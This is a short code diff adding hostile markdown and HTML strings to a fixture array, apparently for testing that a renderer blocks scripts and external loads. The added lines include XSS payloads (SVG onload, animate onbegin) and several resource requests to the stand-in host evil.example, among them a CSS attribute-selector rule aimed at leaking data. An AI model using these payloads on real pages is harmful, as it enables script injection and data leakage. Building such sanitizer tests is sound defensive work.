@@ -23,6 +23,14 @@ const LOADS = [
   '[x](<javascript:window.ran=22> "t") <javascript:window.ran=23>',
   '| a |\n|---|\n| <img src=x onerror=window.ran=24> |',
   '```html onerror=window.ran=25\n</code></pre><script>window.ran = 26</script>\n```',
+  '![by name][pixel] and [pixel]\n\n[pixel]: http://evil.example/reference.png "x"',
+  '![svg](data:image/svg+xml,<svg/onload=window.ran=27>) ![css](http://evil.example/a.css)',
+  '<p style="background:url(http://evil.example/style.png)" class="x" id="app">styled</p>',
+  '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff2)} *{font-family:x} :root{background:url(//evil.example/r.png)} [data-seq^="1"]{background:url(http://evil.example/leak)}</style>',
+  '<svg><use href="http://evil.example/u.svg#x"/><image href="http://evil.example/i.png"/><style>*{background:url(http://evil.example/s.png)}</style><animate onbegin=window.ran=28 attributeName=x dur=1s></svg>',
+  '<picture><source srcset="http://evil.example/p.png 2x"><img srcset="http://evil.example/q.png"></picture><input type=image src=http://evil.example/b.png>',
+  '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/"><object data="http://evil.example/o"></object><embed src="http://evil.example/e">',
+  '<link rel="preload" as="font" href="http://evil.example/pre"><link rel="dns-prefetch" href="//evil.example"><audio autoplay src="http://evil.example/a.mp3"></audio>',
 ].join('\n\n');
 
 export const HOSTILE = `${RUNS}\n\n${LOADS}`;
